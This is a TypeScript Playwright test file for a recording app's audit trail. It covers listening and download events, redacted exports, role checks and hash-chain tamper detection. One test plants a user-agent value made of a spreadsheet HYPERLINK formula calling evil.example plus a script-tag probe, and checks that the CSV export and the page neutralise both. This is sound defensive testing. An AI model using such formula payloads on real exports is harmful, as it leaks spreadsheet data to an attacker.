import { execFile } from 'node:child_process'
import { randomInt } from 'node:crypto'
import pg from 'pg'
import { db } from '../lib/db'
import { commandFile } from '../testing/commands'
import { randomId } from '../testing/factories'
import { expect, test } from './support/fixtures'
import { startDatabase } from './support/second-app'
import { NOBODY, stateFile } from './support/signed-in'

const eventsOn = (targetId: string) =>
  db().auditEvent.findMany({ where: { targetId }, orderBy: { seq: 'asc' } })
const listeningsOf = (recordingId: string) => db().listening.findMany({ where: { recordingId } })

async function heldRecording({ recordings }: { recordings: { recordingId: string }[] }) {
  const [recording] = recordings
  if (!recording) throw new Error('the simulator made no recording')
  const { recordingId } = recording
  return { recordingId, address: `/api/recordings/${recordingId}` }
}

test('playing is a listening, however many parts are asked for; HEAD and a probe are none', async ({
  runConference,
  request,
}) => {
  const conference = await runConference({ durationSec: 5 })
  const { recordingId, address } = await heldRecording(conference)
  await request.head(`${address}/audio`)
  await request.get(`${address}/audio`, { headers: { range: 'bytes=0-0' } })
  expect(await listeningsOf(recordingId)).toEqual([])
  for (const range of ['bytes=0-', 'bytes=20000-', 'bytes=30000-30099'])
    expect((await request.get(`${address}/audio`, { headers: { range } })).status()).toBe(206)
  const { etag = '' } = (await request.head(`${address}/audio`)).headers()
  expect((await request.get(`${address}/audio`, { headers: { 'if-none-match': etag } })).status()).toBe(304)
  expect(await listeningsOf(recordingId)).toMatchObject([
    {
      actorKind: 'user',
      actorName: 'admin@example.com',
      conferenceId: conference.conferenceId,
      heardSec: null,
    },
  ])
  expect(await eventsOn(recordingId)).toEqual([])
})

test('what is refused is no listening', async ({ request }) => {
  const recordingId = randomId('RE')
  expect((await request.get(`/api/recordings/${recordingId}/audio`)).status()).toBe(404)
  expect(await listeningsOf(recordingId)).toEqual([])
})

test('a download is one event with the parts that follow it; a part that follows none is one as well', async ({
  runConference,
  request,
}) => {
  const conference = await runConference({ durationSec: 5 })
  const { recordingId, address } = await heldRecording(conference)
  const download = (range?: string) =>
    request.get(`${address}/audio?download=1`, { headers: range === undefined ? {} : { range } })
  expect((await download('bytes=1-')).status()).toBe(206)
  expect(await eventsOn(recordingId)).toMatchObject([
    {
      action: 'downloaded',
      actorName: 'admin@example.com',
      details: { conferenceId: conference.conferenceId },
    },
  ])
  expect((await download()).status()).toBe(200)
  expect((await download('bytes=20000-')).status()).toBe(206)
  expect(await eventsOn(recordingId)).toHaveLength(2)
  expect(await listeningsOf(recordingId)).toEqual([])
})

test('opening a conference is an event; what the router asks for ahead is neither event nor page', async ({
  runConference,
  request,
}) => {
  const { conferenceId } = await runConference()
  const ahead = await request.get(`/conferences/${conferenceId}`, {
    headers: { rsc: '1', 'next-router-prefetch': '1' },
  })
  expect(await ahead.text()).not.toContain('Recordings')
  expect(await eventsOn(conferenceId)).toEqual([])
  await request.get(`/conferences/${conferenceId}`, { headers: { 'user-agent': 'a browser' } })
  await request.head(`/api/conferences/${conferenceId}`)
  await request.get(`/api/conferences/${conferenceId}`, { headers: { 'user-agent': 'a program' } })
  expect(await eventsOn(conferenceId)).toMatchObject([
    { action: 'opened conference', targetKind: 'conference', userAgent: 'a browser', address: '127.0.0.1' },
    { action: 'opened conference', targetKind: 'conference', userAgent: 'a program', address: '127.0.0.1' },
  ])
})

test('an export is noted with its filter, and no whole phone number', async ({ request }) => {
  const digits = String(randomInt(10 ** 11, 10 ** 12))
  const userAgent = `test ${digits.slice(0, 6)}a`
  const headers = { 'user-agent': userAgent }
  await request.head(`/api/conferences/export?q=${digits}`, { headers })
  await request.get(`/api/conferences/export?q=%2B${digits}&format=jsonl&minDuration=5m&since=7d`, {
    headers,
  })
  expect(await db().auditEvent.findMany({ where: { userAgent } })).toMatchObject([
    {
      action: 'exported',
      details: { format: 'jsonl', search: `number ending ${digits.slice(-4)}`, minSec: 300, since: '7d' },
    },
  ])
})

test.describe('what a player reports', () => {
  test('adds up', async ({ runConference, request }) => {
    const { recordingId, address } = await heldRecording(await runConference())
    for (const heardSec of [12, 3]) {
      const answer = await request.post(`${address}/listening`, { data: { heardSec } })
      expect(answer.status()).toBe(204)
    }
    expect(await listeningsOf(recordingId)).toMatchObject([{ heardSec: 15 }])
  })

  for (const [body, status] of [
    ['{"heardSec": -1}', 400],
    ['{"heardSec": 1.5}', 400],
    ['{"heardSec": 1e9}', 400],
    ['{"heardSec": "5"}', 400],
    ['{"atSec": -1}', 400],
    ['{"atSec": 1e8}', 400],
    ['{"heardSec": 5, "atSec": null}', 400],
    ['{}', 400],
    ['not JSON', 400],
    [`{"heardSec": 5, "x": "${'x'.repeat(1_000)}"}`, 413],
  ] as const) {
    test(`is refused with ${status}: ${body.slice(0, 20)}`, async ({ runConference, request }) => {
      const { recordingId, address } = await heldRecording(await runConference())
      const answer = await request.post(`${address}/listening`, { data: Buffer.from(body) })
      expect(answer.status()).toBe(status)
      expect((await answer.json()).error).toMatch(/\.$/)
      expect(await listeningsOf(recordingId)).toEqual([])
    })
  }

  test('of a recording that there is none of is 404', async ({ request }) => {
    for (const id of [randomId('RE'), 'no%20id']) {
      const answer = await request.post(`/api/recordings/${id}/listening`, { data: { heardSec: 5 } })
      expect(answer.status()).toBe(404)
    }
  })
})

test('an export of the audit log is noted, and neutralises what a caller put in', async ({
  runConference,
  request,
}) => {
  const { conferenceId } = await runConference()
  const userAgent = '=HYPERLINK("http://evil.example/?"&A1,"<script>alert(1)</script>")'
  await request.get(`/conferences/${conferenceId}`, { headers: { 'user-agent': userAgent } })
  const answer = await request.get(`/api/audit-log/export?target=${conferenceId}`)
  expect(answer.headers()).toMatchObject({
    'content-type': 'text/csv; charset=utf-8; header=present',
    'content-disposition': expect.stringMatching(/filename="roomtone-audit-log-\d{4}-\d\d-\d\d\.csv"/),
    'cache-control': 'private, no-store',
  })
  const [header, line, ...rest] = (await answer.text()).split('\r\n')
  expect(header).toMatch(/^row,at,action,.*,previous_hash,hash$/)
  expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,`)
  expect(rest).toEqual([''])
  const page = await (await request.get(`/audit-log?target=${conferenceId}`)).text()
  expect(page).toContain('opened conference')
  expect(page).not.toContain('<script>alert(1)</script>')
  expect(
    await db().auditEvent.count({
      where: { action: 'exported audit log', details: { path: ['target'], equals: conferenceId } },
    }),
  ).toBe(1)
})

for (const role of ['listener', 'manager'] as const) {
  test.describe(role, () => {
    test.use({ storageState: stateFile(role) })
    test('may not see or export the audit log', async ({ request }) => {
      const page = await request.get('/audit-log')
      expect(page.status()).toBe(403)
      expect(await page.text()).not.toContain('Source')
      expect((await request.get('/api/audit-log/export')).status()).toBe(403)
      for (const former of ['/trail', '/api/trail/export'])
        expect((await request.get(former)).status()).toBe(403)
    })
  })
}

test.describe('a stranger', () => {
  test.use({ storageState: NOBODY })
  test('is sent from a former address to sign in, and then to the audit log', async ({ request }) => {
    const answer = await request.get('/trail?action=played', { maxRedirects: 0 })
    expect(answer.status()).toBe(308)
    expect(answer.headers().location).toBe('/audit-log?action=played')
    const signIn = await request.get('/trail?action=played')
    expect(new URL(signIn.url()).searchParams.get('next')).toBe('/audit-log?action=played')
    expect((await request.get('/api/trail/export')).status()).toBe(401)
  })
  test('may not see, export or report', async ({ request }) => {
    expect((await request.get('/audit-log', { maxRedirects: 0 })).status()).toBe(303)
    expect((await request.get('/api/audit-log/export')).status()).toBe(401)
    const answer = await request.post(`/api/recordings/${randomId('RE')}/listening`, {
      data: { heardSec: 5 },
    })
    expect(answer.status()).toBe(401)
  })
})

test('audit:verify names the row that was tampered with', async () => {
  // Starts a database and six processes, one after another.
  test.setTimeout(120_000)
  const database = await startDatabase()
  const client = new pg.Client(database.url)
  await client.connect()
  const verify = (...words: string[]) =>
    new Promise<{ code: number; output: string }>((resolve) => {
      execFile(
        process.execPath,
        [commandFile('audit-verify'), ...words],
        { env: { ...process.env, DATABASE_URL: database.url } },
        (error, stdout, stderr) =>
          resolve({ code: error === null ? 0 : Number(error.code), output: stdout + stderr }),
      )
    })
  await client.query(
    `INSERT INTO audit_event (action, actor_kind, details) SELECT 'signed out', 'system', '{}' FROM generate_series(1, 5)`,
  )
  const whole = await verify()
  expect(whole).toMatchObject({ code: 0, output: expect.stringContaining('5 rows are as written') })
  const [, noted = ''] = /(5:[\da-f]{64})/.exec(whole.output) ?? []
  expect(await verify('--expect', noted)).toMatchObject({ code: 0 })
  expect(await verify('--expect', `4${noted.slice(1)}`)).toMatchObject({
    code: 1,
    output: expect.stringContaining('Row 4'),
  })
  for (const words of [['--expect', '5'], [noted]])
    expect(await verify(...words)).toMatchObject({
      code: 2,
      output: expect.stringContaining('Not understood'),
    })

  await client.query('ALTER TABLE audit_event DISABLE TRIGGER USER')
  await client.query(`UPDATE audit_event SET actor_name = 'eve' WHERE seq = 3`)
  expect(await verify()).toMatchObject({
    code: 1,
    output: expect.stringContaining('Row 3 was changed by hand'),
  })
  await client.end()
  await database.stop()
})
